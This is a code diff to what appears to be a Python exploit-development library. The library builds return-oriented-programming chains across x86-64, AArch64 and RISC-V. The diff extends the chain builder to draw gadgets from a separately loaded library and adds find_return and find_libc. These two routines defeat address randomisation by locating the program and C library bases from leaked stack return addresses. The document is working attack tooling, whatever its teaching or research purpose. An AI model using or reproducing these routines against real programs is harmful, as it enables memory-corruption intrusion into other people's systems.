@@ -16,7 +16,9 @@ POP_RDI = b"\x5f" + RETURN_X86_64
 # ld ra,8(sp); mv a0,s0; ld s0,0(sp); addi sp,sp,16; ret
 LOAD_S0_RISCV64 = bytes.fromhex("a260 2285 0264 4101 8280")
 RETURN_AARCH64, MOVE_X0_X19, MOVE_SP_X29 = 0xd65f03c0, 0xaa1303e0, 0x910003bf
+START = 0x200  # before __libc_start_main(), the function that calls main()
 FLOATS_X86_64 = 424  # within a ucontext
+PAGE = 0xfff
 RT_SIGRETURN = {X86_64: 15, AARCH64: 139, RISCV64: 139}
 
 
@@ -36,15 +38,45 @@ def pass_argument(program, base, value, target):
     return [base + gadget + 4, *first, *second]
 
 
-def call(program, value, function, caller):
+def call(program, value, function, caller, base=0, library=None):
     """A chain that calls FUNCTION with VALUE and goes on behind itself.  Where
     functions return by a register, it takes the call in CALLER, a function that
-    saves nothing but this register."""
+    saves nothing but this register.  LIBRARY is what the gadgets are from, and
+    where that has been loaded."""
+    gadgets, gadgets_base = library or (program, base)
     if program.machine == X86_64:
-        aligned = [program.find_code(POP_RDI) + 1]
-        return aligned + pass_argument(program, 0, value, program[function])
-    site = program.calls(caller, function)[0][0]
-    return pass_argument(program, 0, value, site) + [0]
+        aligned = [gadgets_base + gadgets.find_code(POP_RDI) + 1]
+        return aligned + pass_argument(gadgets, gadgets_base, value,
+                                       base + program[function])
+    site = base + program.calls(caller, function)[0][0]
+    return pass_argument(gadgets, gadgets_base, value, site) + [0]
+
+
+def find_return(program, stack, buffer, handler):
+    """(which word of STACK is the first return address into the program behind a
+    BUFFER of so many bytes, where the program has been loaded).  serve() calls
+    HANDLER, and that others.  An address of the stack can have the same offset in
+    its page: the return address into main() has to confirm it."""
+    known = [after for caller, callee in ((handler, None), ("serve", handler))
+             for _, after in program.calls(caller, callee)]
+    main = program.calls("main", "serve")[0][1]
+    return next((at, stack[at] - after) for at in range(buffer // 8, len(stack))
+                for after in known
+                if stack[at] & PAGE == after & PAGE and
+                stack[at] - after + main in stack[at:])
+
+
+def find_libc(libc, stack):
+    """Where the C library has been loaded, by the return address of main(); that
+    of its caller has to confirm it."""
+    name = "__libc_start_main"
+    inner = [after for _, after, target in
+             libc.calls_within(libc[name] - START, START) if target is None]
+    outer = [after for _, after, target in
+             libc.calls_within(libc[name], libc.sizes[name]) if target]
+    return next(found - after for found in stack for after in inner
+                if found & PAGE == after & PAGE and
+                any(found - after + other in stack for other in outer))
 
 
 def move_stack_aarch64(program, chain):
